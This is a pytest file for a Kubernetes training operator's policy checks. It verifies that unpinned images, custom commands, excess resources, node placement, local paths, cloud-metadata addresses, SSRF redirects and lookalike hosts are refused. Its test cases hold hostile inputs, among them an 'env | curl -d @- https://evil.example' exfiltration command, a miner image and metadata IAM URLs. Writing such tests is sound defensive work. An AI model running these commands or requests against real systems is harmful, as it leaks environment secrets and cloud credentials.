"""The operator's policy (controller/settings/policy.py) and the dataset reader it governs
(controller/data/fetch.py): a Search gets no more than the policy allows, and a data source cannot make the operator
read a device, a metadata address or more than its cap. The same refusals through the real operator are in
tests/kube/test_operator.py."""

from __future__ import annotations

import dataclasses
import http.server
import threading

import pytest

from controller.data.fetch import fetch
from controller.errors import ConfigError
from controller.settings.config import Settings
from controller.settings.policy import LOCAL, PolicyError, PolicySettings, check_data, check_job
from controller.settings.resource import settings_of

PINNED = "registry.example/cifar-hpo-trainer@sha256:" + "a" * 64
BASE = Settings(kube=dataclasses.replace(Settings().kube, image=PINNED))


def _search(**trial) -> dict:
    return {"apiVersion": "cifar-hpo.io/v1alpha1", "kind": "Search", "metadata": {"name": "s"},
            "spec": {"search": {"maxTrials": 3}, "trial": trial}}


def _check(policy: PolicySettings, **trial) -> None:
    doc = _search(**trial)
    wanted = settings_of(doc, BASE)
    check_job(policy, BASE, wanted, doc["spec"]["trial"], wanted.search.parallelism)


@pytest.mark.pure
@pytest.mark.parametrize("trial, field", [
    ({"image": "evil.example/miner:latest"}, "spec.trial.image"),
    ({"image": "registry.example/cifar-hpo-trainer:latest"}, "spec.trial.image"),  # the digest is what is allowed
    ({"command": ["sh", "-c", "env | curl -d @- https://evil.example"]}, "spec.trial.command"),
    ({"gpuCount": 2}, "spec.trial.gpuCount"),
    ({"activeDeadlineSeconds": 604800}, "spec.trial.activeDeadlineSeconds"),
    ({"priorityClassName": "system-node-critical"}, "spec.trial.priorityClassName"),
    ({"nodeSelector": {"kubernetes.io/hostname": "the-control-plane"}}, "spec.trial.nodeSelector"),
    ({"tolerations": [{"operator": "Exists"}]}, "spec.trial.tolerations"),
    ({"affinity": {"nodeAffinity": {}}}, "spec.trial.affinity"),
    ({"limits": {"nvidia.com/gpu": "8"}}, "spec.trial.limits"),
    ({"gpuResource": "amd.com/gpu"}, "spec.trial.gpuResource"),
])
def test_a_search_beyond_the_default_policy_is_refused_naming_the_field(trial, field):
    with pytest.raises(PolicyError) as e:
        _check(PolicySettings(), **trial)
    assert str(e.value).startswith(field + ":"), e.value
    assert "policy." in str(e.value) or "only" in str(e.value) or "may not" in str(e.value)


@pytest.mark.pure
def test_what_the_policy_lists_is_allowed_and_the_operators_own_settings_always_are():
    policy = PolicySettings(images=["registry.example/other@sha256:" + "b" * 64], allow_custom_command=True,
                            max_gpus_per_trial=2, priority_class_names=["batch-low"],
                            node_selectors=["pool=gpu"], tolerations=[{"key": "gpu", "operator": "Exists"}],
                            allow_affinity=True)
    _check(policy, image="registry.example/other@sha256:" + "b" * 64, command=["python", "-m", "mytrainer"],
           gpuCount=2, priorityClassName="batch-low", nodeSelector={"pool": "gpu"},
           tolerations=[{"key": "gpu", "operator": "Exists"}], affinity={"nodeAffinity": {}},
           activeDeadlineSeconds=3600)
    _check(PolicySettings(), image=BASE.kube.image, command=list(BASE.trial.command))  # restating the defaults


@pytest.mark.pure
def test_parallelism_beyond_the_policy_is_refused():
    doc = _search()
    doc["spec"]["search"]["parallelism"] = 9
    wanted = settings_of(doc, BASE)
    with pytest.raises(PolicyError, match=r"spec.search.parallelism: 9 .* at most 8"):
        check_job(PolicySettings(), BASE, wanted, {}, wanted.search.parallelism)


@pytest.mark.pure
@pytest.mark.parametrize("data, sha, match", [
    ("/dev/zero", "a" * 64, "path sources are not allowed"),
    ("/etc/passwd", "a" * 64, "path sources are not allowed"),
    ("http://169.254.169.254/latest/meta-data/iam/cifar-100-python.tar.gz", "a" * 64, "http sources are not allowed"),
    ("s3://someone-elses-bucket/uploads/cifar-100-python.tar.gz", "a" * 64, "is not under s3://our-bucket/uploads/"),
    # another search's records (a model another Search's trial wrote), and a way out of the prefix
    ("s3://our-bucket/searches/theirs/trials/0/model.keras", "a" * 64, "is not under s3://our-bucket/uploads/"),
    ("s3://our-bucket/uploads/../searches/x.tar.gz", "a" * 64, "is not under s3://our-bucket/uploads/"),
    ("https://example.org/cifar-100-python.tar.gz", None, "spec.trial.dataSha256: required"),
])
def test_data_sources_outside_the_default_policy_are_refused(data, sha, match):
    with pytest.raises(PolicyError, match=match):
        check_data(PolicySettings(), data, sha, "our-bucket")


@pytest.mark.pure
def test_allowed_data_sources_pass():
    for data in ("cifar100", "synthetic:500", "https://example.org/c.tar.gz", "s3://our-bucket/uploads/c.tar.gz"):
        check_data(PolicySettings(), data, "a" * 64, "our-bucket")
    with pytest.raises(PolicyError, match="host 'example.org' is not allowed"):
        check_data(PolicySettings(data_hosts=["mirror.example"]), "https://example.org/c.tar.gz", "a" * 64, "b")


@pytest.mark.e2e
def test_a_device_is_refused_even_where_paths_are_allowed(tmp_path):
    with pytest.raises(PolicyError, match="/dev/zero is not a regular file"):
        fetch("/dev/zero", LOCAL, "trial.data")
    fifo = tmp_path / "fifo"
    import os

    os.mkfifo(fifo)
    with pytest.raises(PolicyError, match="not a regular file"):
        fetch(str(fifo), LOCAL, "trial.data")  # O_NONBLOCK: opening a FIFO with no writer does not hang


@pytest.mark.e2e
def test_a_file_over_the_cap_is_cut_off_at_the_cap(tmp_path):
    big = tmp_path / "big.tar.gz"
    big.write_bytes(b"x" * 5000)
    with pytest.raises(PolicyError, match="over 4096 bytes"):
        fetch(str(big), dataclasses.replace(LOCAL, max_data_bytes=4096), "trial.data")


class _Server:
    """Serves /big (endless, no Content-Length), /ok, and /to-metadata (a redirect to the metadata address)."""

    def __init__(self):
        served = self.served = {"bytes": 0}

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def do_GET(self):
                served.setdefault("hosts", []).append(self.headers.get("Host"))
                redirects = {"/to-metadata": "http://169.254.169.254/latest/meta-data/",
                             "/to-ftp": "ftp://example.org/c.tar.gz", "/to-https": "https://example.org/c.tar.gz",
                             "/to-other-host": f"http://other.example:{self.server.server_address[1]}/ok"}
                if self.path in redirects:
                    self.send_response(302)
                    self.send_header("Location", redirects[self.path])
                    self.end_headers()
                    return
                self.send_response(200)
                self.end_headers()
                if self.path == "/ok":
                    self.wfile.write(b"archive")
                    return
                try:
                    for _ in range(10_000):
                        self.wfile.write(b"z" * 65536)
                        served["bytes"] += 65536
                except OSError:
                    pass  # the reader stopped at its cap

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def __enter__(self):
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc):
        self.httpd.shutdown()


@pytest.mark.e2e
def test_urls_are_checked_where_they_resolve_and_after_each_redirect():
    open_http = dataclasses.replace(LOCAL, max_data_bytes=1 << 20)
    with _Server() as origin:
        assert fetch(f"{origin.url}/ok", open_http, "trial.data") == b"archive"
        with pytest.raises(PolicyError, match=r"is over 1048576 bytes"):
            fetch(f"{origin.url}/big", open_http, "trial.data")
        assert origin.served["bytes"] < 64 << 20  # stopped near the cap, not after the 655 MB it offers
        strict = dataclasses.replace(open_http, allow_private_addresses=False)
        with pytest.raises(PolicyError, match=r"127.0.0.1, a loopback address"):
            fetch(f"{origin.url}/ok", strict, "trial.data")
        # The origin is allowed (private addresses are, here); the redirect's target is checked on its own, and
        # link-local (metadata) is refused under every policy.
        with pytest.raises(PolicyError, match=r"169.254.169.254, a link-local address"):
            fetch(f"{origin.url}/to-metadata", open_http, "trial.data")
    with pytest.raises(PolicyError, match="169.254.169.254, a link-local address"):
        fetch("https://169.254.169.254/latest/meta-data/", PolicySettings(), "spec.trial.data")


@pytest.mark.pure
def test_a_policy_with_an_unknown_scheme_is_a_config_error():
    with pytest.raises(ConfigError, match="policy.dataSchemes: 'ftp'"):
        PolicySettings(data_schemes=["ftp"]).validate()


# -- issue 34: the policy covers what a Search removes, every argument, every quantity, every address form --

PLACED = Settings(kube=dataclasses.replace(
    Settings().kube, image=PINNED, node_selector={"pool": "gpu"}, tolerations=[{"key": "gpu", "operator": "Exists"}],
    affinity={"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": []}}},
    requests={"cpu": "3", "memory": "10Gi"}, limits={"memory": "12Gi"}))


@pytest.mark.pure
def test_a_search_cannot_remove_the_operators_placement_or_limits():
    """nodeSelector: {}, affinity: {}, limits: {} used to replace the operator's own: the trial ran anywhere, with
    no memory limit. Merged, the operator's stay and a Search's additions join them."""
    from controller.settings.policy import merged_job

    doc = _search(nodeSelector={}, affinity={}, limits={}, requests={}, tolerations=[])
    wanted = settings_of(doc, PLACED)
    kube = merged_job(PLACED.kube, wanted.kube)
    assert kube.node_selector == {"pool": "gpu"} and kube.affinity == PLACED.kube.affinity
    assert kube.limits == {"memory": "12Gi"} and kube.requests == {"cpu": "3", "memory": "10Gi"}
    assert kube.tolerations == PLACED.kube.tolerations
    # what a Search adds joins them; it cannot change the operator's own value of a key
    added = merged_job(PLACED.kube, settings_of(_search(nodeSelector={"pool": "cpu", "zone": "a"},
                                                        limits={"cpu": "4"}), PLACED).kube)
    assert added.node_selector == {"pool": "gpu", "zone": "a"} and added.limits == {"memory": "12Gi", "cpu": "4"}


@pytest.mark.pure
@pytest.mark.parametrize("trial, field, rule", [
    ({"requests": {"memory": "2Ti"}}, "spec.trial.requests.memory", "at most 512Gi"),
    ({"limits": {"cpu": "65"}}, "spec.trial.limits.cpu", "at most 64"),
    ({"requests": {"cpu": "64001m"}}, "spec.trial.requests.cpu", "at most 64"),
    ({"requests": {"ephemeral-storage": "1.5Ti"}}, "spec.trial.requests.ephemeral-storage", "at most 1Ti"),
    ({"requests": {"memory": "lots"}}, "spec.trial.requests.memory", "not a resource quantity"),
    ({"terminationGraceSeconds": 3600}, "spec.trial.terminationGraceSeconds", "at most 300"),
])
def test_requests_limits_and_grace_are_bounded(trial, field, rule):
    with pytest.raises(PolicyError) as e:
        _check(PolicySettings(), **trial)
    assert str(e.value).startswith(field + ":") and rule in str(e.value), e.value


@pytest.mark.pure
def test_quantities_at_the_bound_pass():
    _check(PolicySettings(), requests={"cpu": "64", "memory": "512Gi"}, limits={"memory": "549755813888",
                                                                                  "ephemeral-storage": "1Ti"},
           terminationGraceSeconds=300)


@pytest.mark.pure
@pytest.mark.parametrize("arg", ["--data", "--data=http://169.254.169.254/", "--data-sha256", "--data-s", "--dat",
                                 "--trial=s3://other/trials/0", "--epochs=100000", "--epo"])
def test_extra_args_cannot_override_what_the_operator_passes(arg):
    with pytest.raises(PolicyError, match=r"^spec\.trial\.extraArgs: .*would override"):
        _check(PolicySettings(), extraArgs=[arg, "x"])


@pytest.mark.pure
def test_extra_args_of_the_trainers_own_options_pass():
    _check(PolicySettings(), extraArgs=["--patience", "5", "--no-xla", "--val-size=5000", "-v"])


@pytest.mark.pure
def test_a_search_cannot_check_progress_more_often_than_the_policy_allows():
    doc = _search()
    doc["spec"]["earlyStopping"] = {"rule": "median", "checkSeconds": 0.5}
    wanted = settings_of(doc, BASE)
    with pytest.raises(PolicyError, match=r"spec\.earlyStopping\.checkSeconds: 0\.5 seconds; at least 5"):
        check_job(PolicySettings(), BASE, wanted, doc["spec"]["trial"], 1)
    check_job(PolicySettings(min_check_seconds=0.5), BASE, wanted, doc["spec"]["trial"], 1)


@pytest.mark.pure
@pytest.mark.parametrize("address", ["::ffff:169.254.169.254", "fd00:ec2::254", "100.100.100.200", "168.63.129.16",
                                     "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "::169.254.169.254",
                                     "fe80::1%eth0"])
def test_metadata_addresses_are_refused_in_every_form_under_every_policy(address):
    from controller.settings.policy import address_refusal

    for policy in (PolicySettings(), LOCAL):
        refusal = address_refusal(policy, "h", [address])
        assert refusal and ("link-local" in refusal or "metadata" in refusal), (address, refusal)


@pytest.mark.pure
@pytest.mark.parametrize("address", ["::ffff:10.0.0.1", "::ffff:127.0.0.1", "64:ff9b::a00:1", "::1"])
def test_private_addresses_embedded_in_ipv6_are_private(address):
    from controller.settings.policy import address_refusal

    assert "policy.allowPrivateAddresses" in (address_refusal(PolicySettings(), "h", [address]) or "")
    assert address_refusal(LOCAL, "h", [address]) is None


@pytest.mark.pure
def test_a_public_address_passes():
    from controller.settings.policy import address_refusal

    assert address_refusal(PolicySettings(), "h", ["151.101.1.1", "2a04:4e42::1"]) is None


@pytest.mark.e2e
def test_a_redirect_is_checked_for_scheme_and_host_too_and_the_connection_goes_to_the_checked_address(monkeypatch):
    """Third audit: a redirect re-checked for its address only would reach a scheme or host the policy refuses; and
    nothing showed the connection goes to the address that was checked (a second DNS answer must not swap it)."""
    import socket

    real = socket.getaddrinfo
    answers = {"pinned.example": ["127.0.0.1", "10.255.255.1"]}  # first the checked answer, then a swapped one

    def resolve(host, port, *args, **kwargs):
        if host in answers:
            address = answers[host].pop(0) if len(answers[host]) > 1 else answers[host][0]
            return real(address, port, *args, **kwargs)
        return real(host, port, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    http_only = dataclasses.replace(LOCAL, data_schemes=["http"], max_data_bytes=1 << 20)
    with _Server() as origin:
        port = origin.url.rsplit(":", 1)[1]
        assert fetch(f"http://pinned.example:{port}/ok", http_only, "trial.data", timeout=10) == b"archive"
        assert origin.served["hosts"][-1] == f"pinned.example:{port}"  # the name kept, the checked address used
        with pytest.raises(PolicyError, match=r"ftp is not allowed"):
            fetch(f"{origin.url}/to-ftp", http_only, "trial.data")
        with pytest.raises(PolicyError, match=r"https is not allowed"):
            fetch(f"{origin.url}/to-https", http_only, "trial.data")
        hosts = dataclasses.replace(http_only, data_hosts=["127.0.0.1"])
        with pytest.raises(PolicyError, match=r"host 'other.example' is not in policy.dataHosts"):
            fetch(f"{origin.url}/to-other-host", hosts, "trial.data")


ALLOWING = PolicySettings(images=["registry.example/other@sha256:" + "b" * 64], priority_class_names=["batch-low"],
                          node_selectors=["pool=gpu"], tolerations=[{"key": "gpu", "operator": "Exists",
                                                                     "effect": "NoSchedule"}],
                          data_hosts=["mirror.example"])


@pytest.mark.pure
@pytest.mark.parametrize("trial, field", [
    ({"image": "registry.example/other@sha256:" + "b" * 63 + "c"}, "spec.trial.image"),  # the last digit differs
    ({"image": "registry.example/other@sha256:" + "b" * 64 + "x"}, "spec.trial.image"),  # a longer one
    ({"priorityClassName": "batch-low-x"}, "spec.trial.priorityClassName"),
    ({"nodeSelector": {"pool": "gpu-x"}}, "spec.trial.nodeSelector"),  # the key allowed, another value
    ({"nodeSelector": {"poolx": "gpu"}}, "spec.trial.nodeSelector"),
    ({"tolerations": [{"key": "gpu", "operator": "Exists", "effect": "NoExecute"}]}, "spec.trial.tolerations"),
    ({"tolerations": [{"key": "gpu", "operator": "Exists"}]}, "spec.trial.tolerations"),  # broader: any effect
])
def test_a_value_differing_from_an_allowed_one_anywhere_but_its_first_character_is_refused(trial, field):
    """Third audit: the string rules were tested with values differing in their first character only, so a rule
    comparing by prefix, suffix or key alone passed."""
    with pytest.raises(PolicyError) as e:
        _check(ALLOWING, **trial)
    assert str(e.value).startswith(field + ":"), e.value


@pytest.mark.pure
@pytest.mark.parametrize("data, store_bucket", [
    ("s3://our-bucket-x/uploads/c.tar.gz", "our-bucket"), ("s3://our-bucke/uploads/c.tar.gz", "our-bucket"),
    ("https://evil-mirror.example/c.tar.gz", "b"), ("https://mirror.example.evil/c.tar.gz", "b"),
    ("https://mirror.example@evil.example/c.tar.gz", "b"),
])
def test_a_data_source_near_an_allowed_one_is_refused(data, store_bucket):
    with pytest.raises(PolicyError):
        check_data(ALLOWING, data, "a" * 64, store_bucket)


@pytest.mark.pure
def test_the_operators_own_settings_are_allowed_beside_the_policy_and_nothing_near_them():
    """Operator-relative rules with an operator that sets them (the audit: tested only where the operator set none)."""
    base = Settings(kube=dataclasses.replace(
        BASE.kube, priority_class_name="ops-high", node_selector={"team": "ml"},
        tolerations=[{"key": "ops", "operator": "Exists"}]))
    doc = _search(priorityClassName="ops-high", nodeSelector={"team": "ml"},
                  tolerations=[{"key": "ops", "operator": "Exists"}])
    wanted = settings_of(doc, base)
    check_job(PolicySettings(), base, wanted, doc["spec"]["trial"], 1)
    for trial, field in (({"priorityClassName": "ops-higher"}, "spec.trial.priorityClassName"),
                         ({"tolerations": [{"key": "ops", "operator": "Exists", "effect": "NoExecute"}]},
                          "spec.trial.tolerations")):
        doc = _search(**trial)
        with pytest.raises(PolicyError, match="^" + field.replace(".", r"\.")):
            check_job(PolicySettings(), base, settings_of(doc, base), doc["spec"]["trial"], 1)
